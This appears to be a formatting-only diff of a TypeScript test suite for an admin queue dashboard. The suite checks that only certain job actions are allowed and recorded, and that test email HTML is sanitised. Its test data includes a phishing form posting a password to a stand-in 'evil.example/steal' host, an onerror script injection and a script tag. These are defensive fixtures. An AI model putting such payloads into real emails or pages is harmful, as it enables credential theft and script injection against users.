@@ -21,7 +21,11 @@ describe('queue dashboard: only retry, clean, pause and resume, each recorded; j
 
   const board = (method: 'GET' | 'PUT' | 'POST' | 'PATCH', url: string, payload?: object) =>
     stack.api.inject({ method, url, payload, headers: { cookie: staff.cookie }, remoteAddress: freshIp() });
-  const queue = () => stack.api.get(QueueRegistry).all().find((q) => q.name === QUEUE)!;
+  const queue = () =>
+    stack.api
+      .get(QueueRegistry)
+      .all()
+      .find((q) => q.name === QUEUE)!;
   const jobIds = async () => (await queue().getJobs(['waiting', 'active', 'delayed', 'prioritized', 'completed', 'failed'])).map((job) => job.id).sort();
   const boardEvents = () =>
     stack.dataSource.query(`SELECT payload, metadata FROM domain_events WHERE type = 'admin.queue-dashboard-acted' ORDER BY position`) as Promise<
@@ -48,7 +52,10 @@ describe('queue dashboard: only retry, clean, pause and resume, each recorded; j
   /** A job that fails at once (its event id is no uuid, so the worker's transaction refuses it). */
   async function failedJob(): Promise<string> {
     const job = await handMadeJob({ id: 'not-a-uuid', payload: { testId: randomUUID(), subject: 'Fails', html: '<p>x</p>' } });
-    await eventually(() => job.getState(), (state) => state === 'failed');
+    await eventually(
+      () => job.getState(),
+      (state) => state === 'failed',
+    );
     return job.id!;
   }
 
@@ -58,7 +65,13 @@ describe('queue dashboard: only retry, clean, pause and resume, each recorded; j
     await stack.api.get(AuthService).createOrResetAdmin(email, PASSWORD, { actorType: 'system' });
     const login = await stack.api.inject({ method: 'POST', url: '/api/auth/login', payload: { email, password: PASSWORD }, remoteAddress: freshIp() });
     const jar = Object.fromEntries(login.cookies.map((c) => [c.name, c.value]));
-    staff = { id: login.json().user.id, email, cookie: Object.entries(jar).map(([k, v]) => `${k}=${v}`).join('; ') };
+    staff = {
+      id: login.json().user.id,
+      email,
+      cookie: Object.entries(jar)
+        .map(([k, v]) => `${k}=${v}`)
+        .join('; '),
+    };
   });
 
   afterAll(() => stack?.stop());
@@ -69,7 +82,14 @@ describe('queue dashboard: only retry, clean, pause and resume, each recorded; j
     const mailsBefore = stack.resend.deliveredTo(staff.email).length;
 
     const refused: [method: 'PUT' | 'POST' | 'PATCH', url: string, payload?: object][] = [
-      ['POST', `${BOARD}/add`, { name: 'broadcast.test-requested', data: { id: randomUUID(), type: 'broadcast.test-requested', payload: { subject: 'x', html: '<script>x</script>' }, metadata: { actorId: staff.id } } }],
+      [
+        'POST',
+        `${BOARD}/add`,
+        {
+          name: 'broadcast.test-requested',
+          data: { id: randomUUID(), type: 'broadcast.test-requested', payload: { subject: 'x', html: '<script>x</script>' }, metadata: { actorId: staff.id } },
+        },
+      ],
       ['PUT', `${BOARD}/obliterate`, {}],
       ['PUT', `${BOARD}/empty`],
       ['PUT', `${BOARD}/promote`],
@@ -103,10 +123,16 @@ describe('queue dashboard: only retry, clean, pause and resume, each recorded; j
     expect(await boardEvents()).toEqual([
       { payload: { action: 'retry', queue: QUEUE, jobId: failed, status: null }, metadata: expect.objectContaining({ actorType: 'admin', actorId: staff.id }) },
     ]);
-    await eventually(() => queue().getJobState(failed), (state) => state === 'failed');
+    await eventually(
+      () => queue().getJobState(failed),
+      (state) => state === 'failed',
+    );
 
     expect((await board('PUT', `${BOARD}/retry/failed`)).statusCode).toBe(200);
-    await eventually(() => queue().getJobState(failed), (state) => state === 'failed');
+    await eventually(
+      () => queue().getJobState(failed),
+      (state) => state === 'failed',
+    );
     expect((await board('PUT', `${BOARD}/${failed}/clean`)).statusCode).toBe(204);
     expect(await queue().getJob(failed)).toBeUndefined();
     expect((await board('PUT', `${BOARD}/clean/completed`)).statusCode).toBe(200);
@@ -137,7 +163,10 @@ describe('queue dashboard: only retry, clean, pause and resume, each recorded; j
       '<form action="https://evil.example/steal" method="post"><input name="password"><button>Sign in</button></form>' +
       '<img src="x" onerror="alert(2)"><a href="https://swishly.test/download">Get the app</a>';
     await handMadeJob({ payload: { testId, subject: 'Hand-made', html } });
-    const [sent] = await eventually(async () => stack.resend.deliveredTo(staff.email).filter((m) => m.body.subject === '[Test] Hand-made'), (mails) => mails.length === 1);
+    const [sent] = await eventually(
+      async () => stack.resend.deliveredTo(staff.email).filter((m) => m.body.subject === '[Test] Hand-made'),
+      (mails) => mails.length === 1,
+    );
     const body = sent.body.html;
     expect(body).toContain('<p>Hello</p>');
     expect(body).toContain('href="https://swishly.test/download"');
